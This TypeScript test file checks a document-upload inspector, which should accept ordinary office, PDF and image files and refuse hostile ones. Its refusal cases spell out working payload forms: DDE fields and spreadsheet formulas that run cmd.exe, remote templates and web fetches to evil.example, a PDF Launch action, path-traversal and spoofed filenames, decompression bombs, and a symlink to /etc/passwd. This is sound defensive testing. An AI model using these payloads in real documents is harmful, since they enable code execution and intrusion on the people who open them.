import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import fc from 'fast-check';
import { Budget, MOST_STEPS } from './budget';
import { bytesOf } from './file-bytes';
import { FILE_KINDS } from './file-kind';
import { fileRefusalSentence, type FileRefusal } from './file-refusal';
import { inspectFile } from './inspect-file';
import { docxOf, fieldOf, odtOf, relation, xlsxOf } from './office.factory';
import { packedObjects, pdfOf, streamOf } from './pdf.factory';
import { jpegOf, pngOf } from './picture.factory';
import { zipOf } from './zip.factory';

type Code = FileRefusal['code'];

const HYPERLINKS = [
  relation('hyperlink', 'https://skhcn.gov.vn/x?a=1&amp;b=2'),
  relation('hyperlink', 'mailto:vp@skhcn.gov.vn'),
].join('');
const CHART = { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: xlsxOf(), stored: true };
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const ENCRYPTED = Buffer.concat([OLE, Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(400)]);
const ZEROS = Buffer.alloc(20 * 1024 * 1024);
const EIGHT_MB = deflateSync(Buffer.alloc(8 * 1024 * 1024));
const ZIP = zipOf([{ name: 'x.exe', content: 'MZ' }]);
const utf16 = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
const inRels = (content: string | Buffer) => [{ name: 'word/_rels/header1.xml.rels', content }];
const DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"';

const ORDINARY: readonly (readonly [what: string, name: string, content: Buffer])[] = [
  ['a Word file', 'báo cáo.docx', docxOf()],
  ['a Word file with links', 'a.docx', docxOf({ relations: HYPERLINKS })],
  ['a Word file with a chart and its figures', 'a.docx', docxOf({ parts: [CHART] })],
  ['a Word file with a table of contents', 'a.docx', docxOf({ body: fieldOf('TOC \\o "1-3" ', '\\h \\z') })],
  [
    'a Word file with page numbers inside a condition',
    'a.docx',
    docxOf({ body: fieldOf('IF 1 = 1 "x"') + fieldOf('PAGE') }),
  ],
  ['an Excel file', 'số liệu.xlsx', xlsxOf()],
  ['an Excel file with formulas', 'a.XLSX', xlsxOf({ body: '<c r="A1"><f>IF(B1="a|b!",SUM(B2:B9),0)</f></c>' })],
  ['an OpenDocument text with a link', 'a.odt', odtOf({ body: '<text:a xlink:href="https://x.vn">x</text:a>' })],
  ['a PDF', 'a.pdf', pdfOf()],
  ['a PDF with packed objects', 'a.pdf', pdfOf([packedObjects('<< /Type /Font /BaseFont /Tinos >>')])],
  ['a PDF whose pictures hold any bytes', 'a.pdf', pdfOf([streamOf('/Filter /DCTDecode', Buffer.from('/JS (x) /AA'))])],
  ['a PNG', 'ảnh.png', pngOf(2480, 3508)],
  ['a large PNG', 'a.png', pngOf(100, 100, { filler: 5_000_000 })],
  ['a JPEG', 'a.jpeg', jpegOf(4000, 3000)],
  [
    'a JPEG of a telephone, with a preview behind it',
    'a.jpg',
    Buffer.concat([jpegOf(), jpegOf(), Buffer.from('SEFT')]),
  ],
];

/** What a scan may hold: no byte that begins a marker (ITU-T T.81 B.1.1.5). */
const scanOf = (size: number) => Buffer.from(randomBytes(size).map((byte) => Math.min(byte, 0xfe)));

const EVIL: readonly (readonly [what: string, code: Code, name: string, content: Buffer])[] = [
  ['nothing', 'file-empty', 'a.pdf', Buffer.alloc(0)],
  ['a program', 'file-type-not-allowed', 'a.exe', Buffer.from('MZ')],
  ['a name without an ending', 'file-type-not-allowed', 'báo cáo', pdfOf()],
  ['an ending that every object knows', 'file-type-not-allowed', 'a.constructor', pdfOf()],
  ['a text named PDF', 'file-not-what-it-says', 'a.pdf', Buffer.from('hello')],
  ['a PDF named DOCX', 'file-not-what-it-says', 'a.docx', pdfOf()],
  ['an Excel file named DOCX', 'file-not-what-it-says', 'a.docx', xlsxOf()],
  ['a Word file named PDF', 'file-not-what-it-says', 'a.pdf', docxOf()],
  ['any zip file named DOCX', 'file-not-what-it-says', 'a.docx', ZIP],
  [
    'a Word template named DOCX',
    'file-not-what-it-says',
    'a.docx',
    docxOf({ main: 'application/x.template.main+xml' }),
  ],
  ['a Word file of 1997 named DOCX', 'file-not-what-it-says', 'a.docx', OLE],
  ['a picture with scripts named PNG', 'file-not-what-it-says', 'a.png', Buffer.from('<svg onload="x()"/>')],

  ['a path in the name', 'file-name-unsafe', '../../etc/a.pdf', pdfOf()],
  ['a Windows path in the name', 'file-name-unsafe', 'c:\\a.pdf', pdfOf()],
  ['a line break in the name', 'file-name-unsafe', 'a\r\nSet-Cookie: x.pdf', pdfOf()],
  ['a zero in the name', 'file-name-unsafe', 'a.exe\0.pdf', pdfOf()],
  ['a name that reads backwards', 'file-name-unsafe', 'hóa đơn \u202Efdp.docx', docxOf()],
  ['a name that is isolated from its line', 'file-name-unsafe', 'a\u2066b.pdf', pdfOf()],

  ['a bomb that says so', 'file-bomb', 'a.docx', docxOf({ parts: [{ name: 'word/media/a.png', content: ZEROS }] })],
  [
    'a bomb that lies about its size',
    'file-bomb',
    'a.docx',
    docxOf({ parts: [{ name: 'a.bin', content: ZEROS, claimedSize: 100 }] }),
  ],
  [
    'a bomb of many entries',
    'file-bomb',
    'a.docx',
    docxOf({ parts: Array.from({ length: 2_000 }, (_, n) => ({ name: `${n}` })) }),
  ],
  [
    'a bomb whose entries share their bytes',
    'file-bomb',
    'a.docx',
    docxOf({
      parts: Array.from({ length: 200 }, (_, n) => ({
        name: `word/media/${n}.png`,
        content: Buffer.alloc(1_000_000),
        ...(n > 0 ? { sameAs: 4 } : {}),
      })),
    }),
  ],
  [
    'a bomb within a workbook within a document',
    'file-bomb',
    'a.docx',
    docxOf({
      parts: [
        {
          name: 'word/embeddings/a.xlsx',
          content: xlsxOf({ parts: [{ name: 'xl/embeddings/b.xlsx', content: xlsxOf(), stored: true }] }),
          stored: true,
        },
      ],
    }),
  ],
  [
    'a bomb in an embedded workbook',
    'file-bomb',
    'a.docx',
    docxOf({
      parts: [
        {
          name: 'word/embeddings/a.xlsx',
          content: xlsxOf({ parts: [{ name: 'xl/a.bin', content: ZEROS }] }),
          stored: true,
        },
      ],
    }),
  ],
  [
    'a bomb in the packed objects of a PDF',
    'file-bomb',
    'a.pdf',
    pdfOf([streamOf('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(9 * 1024 * 1024)))]),
  ],

  ['a PDF of endless packed objects', 'file-bomb', 'a.pdf', pdfOf(['/ObjStm stream\nx endstream '.repeat(10_000)])],
  [
    'a PDF whose packed objects are too much together',
    'file-bomb',
    'a.pdf',
    pdfOf(Array.from({ length: 26 }, () => streamOf('/Type /ObjStm /Filter /FlateDecode', EIGHT_MB))),
  ],

  ['a macro', 'file-with-macros', 'a.docx', docxOf({ parts: [{ name: 'word/vbaProject.bin', content: 'x' }] })],
  [
    'a macro under another name',
    'file-with-macros',
    'a.docx',
    docxOf({ types: '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
  ],
  [
    'a macro that only a relationship tells of',
    'file-with-macros',
    'a.docx',
    docxOf({ relations: relation('x', 'a.bin', null).replace('/x"', '/vbaProject"') }),
  ],
  [
    'a DOCM named DOCX',
    'file-with-macros',
    'a.docx',
    docxOf({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  [
    'an XLSM named XLSX',
    'file-with-macros',
    'a.xlsx',
    xlsxOf({ main: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
  ],
  [
    'an Excel 4 macro sheet',
    'file-with-macros',
    'a.xlsx',
    xlsxOf({ parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }] }),
  ],
  [
    'Basic in an OpenDocument text',
    'file-with-macros',
    'a.odt',
    odtOf({ parts: [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }] }),
  ],
  ['an event in an OpenDocument text', 'file-with-macros', 'a.odt', odtOf({ body: '<script:event-listener/>' })],

  [
    'an OLE object',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/embeddings/oleObject1.bin', content: OLE }] }),
  ],
  [
    'an OLE object named as a picture',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/media/a.png', content: OLE }] }),
  ],
  [
    'an OLE relationship',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ relations: relation('oleObject', 'x.bin', null) }),
  ],
  [
    'an ActiveX control',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }] }),
  ],
  [
    'a program inside',
    'file-with-embedded-objects',
    'a.xlsx',
    xlsxOf({ parts: [{ name: 'xl/media/a.png', content: 'MZ\u0090' }] }),
  ],
  [
    'a zip file inside',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/media/a.png', content: ZIP }] }),
  ],
  [
    'a page of the web inside',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ relations: relation('aFChunk', 'a.htm', null) }),
  ],
  [
    'a workbook named as a picture',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/media/a.png', content: xlsxOf(), stored: true }] }),
  ],
  [
    'any zip file named as a workbook',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ parts: [{ name: 'word/embeddings/a.xlsx', content: ZIP, stored: true }] }),
  ],
  [
    'an old drawing of an OLE object',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ body: '<o:OLEObject Type="Embed"/>' }),
  ],
  [
    'an ActiveX control that only its type tells of',
    'file-with-embedded-objects',
    'a.docx',
    docxOf({ types: '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/>' }),
  ],
  ['an applet in an OpenDocument text', 'file-with-embedded-objects', 'a.odt', odtOf({ body: '<draw:applet/>' })],

  [
    'a remote template',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('attachedTemplate', 'https://evil.example/a.dotm') }),
  ],
  [
    'a template of another machine',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('attachedTemplate', '\\\\evil\\a.dotm') }),
  ],
  [
    'a remote picture',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('image', 'http://evil.example/a.png') }),
  ],
  [
    'an external relationship with an odd mode',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('image', 'a.png', 'Ext&#101;rnal') }),
  ],
  [
    'a remote address without a mode',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('image', 'http://evil.example/a.png', null) }),
  ],
  [
    'a link to a file',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('hyperlink', 'file:///c:/a.exe') }),
  ],
  [
    'a link that runs a script',
    'file-with-external-parts',
    'a.docx',
    docxOf({ relations: relation('hyperlink', 'java&#x73;cript:alert(1)') }),
  ],
  ['a frame', 'file-with-external-parts', 'a.docx', docxOf({ relations: relation('frame', 'http://evil.example') })],
  [
    'an external relationship in UTF-16',
    'file-with-external-parts',
    'a.docx',
    docxOf({ parts: inRels(utf16(`<Relationships>${relation('image', 'http://evil.example')}</Relationships>`)) }),
  ],
  [
    'an external relationship behind a comment',
    'file-with-external-parts',
    'a.docx',
    docxOf({
      parts: inRels(
        `<R><!-- <a> " --><p:Relationship Type='x/image' Target = 'http://evil.example' TargetMode\n=\n'External'></p:Relationship></R>`,
      ),
    }),
  ],
  [
    'a remote picture of an old drawing',
    'file-with-external-parts',
    'a.docx',
    docxOf({ body: '<v:imagedata src="https://evil.example/a.png"/>' }),
  ],
  [
    'another workbook',
    'file-with-external-parts',
    'a.xlsx',
    xlsxOf({
      types:
        '<Override PartName="/xl/externalLinks/1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    }),
  ],
  [
    'a connection to data',
    'file-with-external-parts',
    'a.xlsx',
    xlsxOf({
      types:
        '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
    }),
  ],
  [
    'a remote picture in an OpenDocument text',
    'file-with-external-parts',
    'a.odt',
    odtOf({ body: '<draw:image xlink:href="http://evil.example/a.png"/>' }),
  ],

  ['a DDE field', 'file-with-active-fields', 'a.docx', docxOf({ body: fieldOf(DDE) })],
  [
    'a DDE field cut into pieces',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf('D', 'D', 'EAU', 'TO c:\\\\cmd.exe') }),
  ],
  [
    'a DDE field with letters by number',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf('D&#68;E&#x41;UTO cmd') }),
  ],
  [
    'a DDE field in a CDATA section',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf('<![CDATA[DDE cmd]]>') }),
  ],
  [
    'a DDE field behind a comment',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf('DD<!-- <x> -->EAUTO cmd') }),
  ],
  [
    'a DDE field written at once',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: `<w:fldSimple w:instr=" dde cmd "/>` }),
  ],
  [
    'a DDE field in a footer',
    'file-with-active-fields',
    'a.docx',
    docxOf({ parts: [{ name: 'word/footer1.xml', content: fieldOf(DDE) }] }),
  ],
  [
    'a DDE field without its marks',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: '<w:instrText>DDE cmd</w:instrText>' }),
  ],
  [
    'a field that is spelt by another one',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf(`</w:instrText></w:r>${fieldOf('QUOTE 68 68 69')}<w:r><w:instrText>`) }),
  ],
  [
    'a field that fetches a text',
    'file-with-active-fields',
    'a.docx',
    docxOf({ body: fieldOf(' INCLUDETEXT "http://evil.example"') }),
  ],
  [
    'a formula that calls a program',
    'file-with-active-fields',
    'a.xlsx',
    xlsxOf({ body: `<c r="A1"><f>cmd|'/c calc'!A0</f></c>` }),
  ],
  [
    'a formula that calls the web',
    'file-with-active-fields',
    'a.xlsx',
    xlsxOf({ body: '<c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example")</f></c>' }),
  ],
  ['DDE in an OpenDocument text', 'file-with-active-fields', 'a.odt', odtOf({ body: '<text:dde-connection-decl/>' })],

  ['a Word file with a password', 'file-encrypted', 'a.docx', ENCRYPTED],
  ['an Excel file with a password', 'file-encrypted', 'a.xlsx', ENCRYPTED],
  [
    'a zip file with a password',
    'file-encrypted',
    'a.docx',
    docxOf({ parts: [{ name: 'a', content: 'x', flags: 0x801 }] }),
  ],
  [
    'an OpenDocument text with a password',
    'file-encrypted',
    'a.odt',
    odtOf({ manifest: '<manifest:encryption-data/>' }),
  ],
  ['a PDF with a password', 'file-encrypted', 'a.pdf', pdfOf([], '/Encrypt 9 0 R')],
  ['a PDF with a password in escaped letters', 'file-encrypted', 'a.pdf', pdfOf([], '/#45ncrypt 9 0 R')],

  ['a PDF with a script', 'file-with-scripts', 'a.pdf', pdfOf(['<< /S /JavaScript /JS (app.alert(1)) >>'])],
  ['a PDF with an escaped script', 'file-with-scripts', 'a.pdf', pdfOf(['<< /S /J#61vaScr#69pt /JS (x) >>'])],
  [
    'a PDF with a script in packed objects',
    'file-with-scripts',
    'a.pdf',
    pdfOf([packedObjects('<< /S /JavaScript >>')]),
  ],
  [
    'a PDF with a script in escaped packed objects',
    'file-with-scripts',
    'a.pdf',
    pdfOf([packedObjects('<< /S /JavaScript >>', { type: '/Obj#53tm' })]),
  ],
  ['a PDF that starts a program', 'file-with-scripts', 'a.pdf', pdfOf(['<< /S /Launch /F (cmd.exe) >>'])],
  ['a PDF with a file inside', 'file-with-scripts', 'a.pdf', pdfOf(['<< /Type /EmbeddedFile >>'])],
  ['a PDF with a dynamic form', 'file-with-scripts', 'a.pdf', pdfOf(['<< /XFA 9 0 R >>'])],
  ['a PDF that sends what is typed', 'file-with-scripts', 'a.pdf', pdfOf(['<< /S /SubmitForm >>'])],

  ['a PNG of 900 million pixels', 'image-too-large', 'a.png', pngOf(30_000, 30_000)],
  ['a PNG of one endless line', 'image-too-large', 'a.png', pngOf(100_000_000, 1)],
  ['a JPEG of 4 billion pixels', 'image-too-large', 'a.jpg', jpegOf(65_500, 65_500)],

  ['a zip file behind a PNG', 'file-with-hidden-file', 'a.png', Buffer.concat([pngOf(), ZIP])],
  ['a program behind a JPEG', 'file-with-hidden-file', 'a.jpg', Buffer.concat([jpegOf(), Buffer.from('MZ\u0090')])],
  ['a text behind a PNG', 'file-with-hidden-file', 'a.png', Buffer.concat([pngOf(), Buffer.from('hello')])],
  ['a zip file behind a JPEG', 'file-with-hidden-file', 'a.jpg', Buffer.concat([jpegOf(), ZIP])],
  [
    'a zip file within a JPEG',
    'file-with-hidden-file',
    'a.jpg',
    jpegOf(4, 4, zipOf([{ name: 'x', content: 'x' }], { comment: '\u0000\u0000' })),
  ],
  ['a script behind a JPEG', 'file-with-hidden-file', 'a.jpg', Buffer.concat([jpegOf(), Buffer.from('  <SCRIPT>x')])],
  ['a zip file behind a PDF', 'file-with-hidden-file', 'a.pdf', Buffer.concat([pdfOf(), ZIP])],
  ['a text behind a PDF', 'file-with-hidden-file', 'a.pdf', Buffer.concat([pdfOf(), Buffer.from('hello')])],
  ['something in the comment of a zip file', 'file-with-hidden-file', 'a.docx', docxOf({ comment: '%PDF-1.7' })],
  [
    'something between the entries of a zip file',
    'file-with-hidden-file',
    'a.docx',
    docxOf({ between: Buffer.alloc(100, 'x') }),
  ],
  [
    'something behind the directory of a zip file',
    'file-with-hidden-file',
    'a.docx',
    docxOf({ beforeEnd: Buffer.alloc(100, 'x') }),
  ],

  ['a Word file cut in half', 'file-broken', 'a.docx', half(docxOf())],
  ['a PDF cut in half', 'file-broken', 'a.pdf', half(pdfOf(['<< /A 1 >>', '<< /B 1 >>']))],
  ['a PNG cut in half', 'file-broken', 'a.png', half(pngOf(64, 64, { filler: 100 }))],
  ['a JPEG cut in half', 'file-broken', 'a.jpg', half(jpegOf(4, 4, scanOf(2_000)))],
  ['a JPEG without a picture', 'file-broken', 'a.jpg', Buffer.from('ffd8ffd9', 'hex')],
  ['a JPEG whose piece has no length', 'file-broken', 'a.jpg', Buffer.from('ffd8ffe00001ffd9', 'hex')],
  ['a JPEG whose piece is longer than the file', 'file-broken', 'a.jpg', Buffer.from('ffd8ffe0ffff0000ffd9', 'hex')],
  ['a JPEG whose frame is cut off', 'file-broken', 'a.jpg', Buffer.from('ffd8ffc0000b0800', 'hex')],
  ['a JPEG with something between its pieces', 'file-broken', 'a.jpg', Buffer.from('ffd8ffe000020000ffd9', 'hex')],
  [
    'a JPEG of endless padding',
    'file-broken',
    'a.jpg',
    Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(5_000, 0xff)]),
  ],
  ['a JPEG of endless pieces', 'file-broken', 'a.jpg', Buffer.from(`ffd8${'ffe00002'.repeat(30_000)}ffd9`, 'hex')],
  [
    'a PNG that does not begin with its size',
    'file-broken',
    'a.png',
    Buffer.concat([pngOf().subarray(0, 8), pngOf().subarray(33)]),
  ],
  [
    'a whole JPEG with something between its pieces',
    'file-broken',
    'a.jpg',
    Buffer.concat([jpegOf().subarray(0, 20), Buffer.alloc(2), jpegOf().subarray(20)]),
  ],
  ['a PNG without a width', 'file-broken', 'a.png', pngOf(0, 4)],
  [
    'an OpenDocument text without its list',
    'file-broken',
    'a.odt',
    zipOf([
      { name: 'mimetype', content: FILE_KINDS.odt, stored: true },
      { name: 'content.xml', content: '<x/>' },
    ]),
  ],
  [
    'packed objects that are written as differences',
    'file-broken',
    'a.pdf',
    pdfOf([packedObjects('<< >>', { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })]),
  ],
  [
    'packed objects in another packing',
    'file-broken',
    'a.pdf',
    pdfOf([packedObjects('<< >>', { filter: '/Filter [/ASCIIHexDecode /FlateDecode]' })]),
  ],
  ['packed objects without an end', 'file-broken', 'a.pdf', pdfOf(['<< /Type /ObjStm >>\nstream\nx'])],
  [
    'a formula longer than Excel writes',
    'file-broken',
    'a.xlsx',
    xlsxOf({ body: `<c r="A1"><f>${'1+'.repeat(20_000)}1</f></c>` }),
  ],
  ['a PNG with a wrong checksum', 'file-broken', 'a.png', damaged(pngOf(), -14)],
  [
    'an entry with a wrong checksum',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'a', content: 'x', claimedSum: 1 }] }),
  ],
  ['a path in a zip file', 'file-broken', 'a.docx', docxOf({ parts: [{ name: '../a', content: 'x' }] })],
  [
    'two entries of one name',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'WORD/document.xml', content: '<x/>' }] }),
  ],
  [
    'an entry with two names',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'a.xml', localName: 'b.xml', content: '<x/>' }] }),
  ],
  [
    'a link to a file of the machine',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'a', content: '/etc/passwd', attributes: 0xa1ff0000 }] }),
  ],
  ['a packing that nobody uses', 'file-broken', 'a.docx', docxOf({ parts: [{ name: 'a', content: 'x', method: 12 }] })],
  [
    'a document type',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'a.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }] }),
  ],
  [
    'an encoding that hides what is written',
    'file-broken',
    'a.docx',
    docxOf({ parts: [{ name: 'a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }] }),
  ],
  ['a tag without an end', 'file-broken', 'a.docx', docxOf({ parts: [{ name: 'a.xml', content: '<x y="' }] })],
  [
    'packed objects that seem to end early',
    'file-broken',
    'a.pdf',
    pdfOf([
      streamOf(
        '/Type /ObjStm /Filter /FlateDecode',
        Buffer.concat([deflateSync('1 0 << >>').subarray(0, 6), Buffer.from('endstream')]),
      ),
    ]),
  ],
];

function half(content: Buffer): Buffer {
  return content.subarray(0, content.length / 2);
}

function damaged(content: Buffer, at: number): Buffer {
  const copy: Buffer = Buffer.from(content);
  const place = at < 0 ? copy.length + at : at;
  copy[place] = copy[place]! ^ 0xff;
  return copy;
}

/** Looks a file over; whatever it is, it may cost so much and no more. */
async function look(content: Buffer, name: string) {
  const budget = new Budget();
  const result = await inspectFile(bytesOf(content), name, budget);
  const { spent } = budget;
  expect(spent.steps).toBeLessThanOrEqual(MOST_STEPS + 1_000);
  // the limit, and the piece with which it was passed
  expect(spent.unpacked).toBeLessThan(210 * 1024 * 1024);
  return { result, spent };
}

describe(inspectFile.name, () => {
  it.each(ORDINARY)('takes %s', async (_, name, content) => {
    const { result } = await look(content, name);
    const kind = FILE_KINDS[name.split('.').at(-1)!.toLowerCase() as keyof typeof FILE_KINDS];
    expect(result).toEqual({ ok: true, value: kind });
  });

  it('takes what the programs of this house write', async () => {
    const document = new Document({ sections: [{ children: [new Paragraph('Báo cáo'), new Paragraph('Kết quả')] }] });
    const { result } = await look(await Packer.toBuffer(document), 'a.docx');
    expect(result).toEqual({ ok: true, value: FILE_KINDS.docx });
  });

  it.each(EVIL)('refuses %s: %s', async (_, code, name, content) => {
    const { result } = await look(content, name);
    expect(result).toEqual({ ok: false, refusal: expect.objectContaining({ code }) });
  });

  it('spends little on a bomb', async () => {
    const { spent } = await look(docxOf({ parts: [{ name: 'a.bin', content: ZEROS }] }), 'a.docx');
    expect(spent.unpacked).toBe(0);
    const { spent: onLiar } = await look(
      docxOf({ parts: [{ name: 'a.bin', content: ZEROS, claimedSize: 100 }] }),
      'a.docx',
    );
    expect(onLiar.unpacked).toBeLessThan(100_000);
  });

  const seeds = ORDINARY.filter(([, , content]) => content.length < 100_000);

  it('answers every damaged file with a code, and never fails', async () => {
    const change = fc.record({
      file: fc.nat(seeds.length - 1),
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      to: fc.nat(255),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 4 }), async (changes) => {
        const [, name, content] = seeds[changes[0]!.file]!;
        const copy = Buffer.from(content);
        for (const { at, to } of changes) copy[Math.floor(at * (copy.length - 1))] = to;
        const { result } = await look(copy, name);
        expect(result.ok || fileRefusalSentence(result.refusal).vi.length > 0).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('answers every cut-off file with a code, and never takes it', async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat(seeds.length - 1), fc.double({ min: 0, max: 0.97, noNaN: true }), async (file, part) => {
        const [, name, content] = seeds[file]!;
        // behind a telephone's picture anything may follow, so its first picture alone is a whole one
        if (name === 'a.jpg') return;
        const { result } = await look(content.subarray(0, Math.floor(content.length * part)), name);
        expect(result.ok).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

describe(fileRefusalSentence.name, () => {
  it.each([...new Set(EVIL.map(([, code]) => code))])('says in both languages: %s', (code) => {
    const refusal = { code, fileName: '', says: '', is: null, target: '', field: '', found: '', width: 1, height: 1 };
    const { vi, en } = fileRefusalSentence(refusal as FileRefusal);
    expect([vi, en].every((text) => /^[A-ZÀ-Ỹ].+\.$/.test(text))).toBe(true);
    expect(vi).not.toBe(en);
  });
});
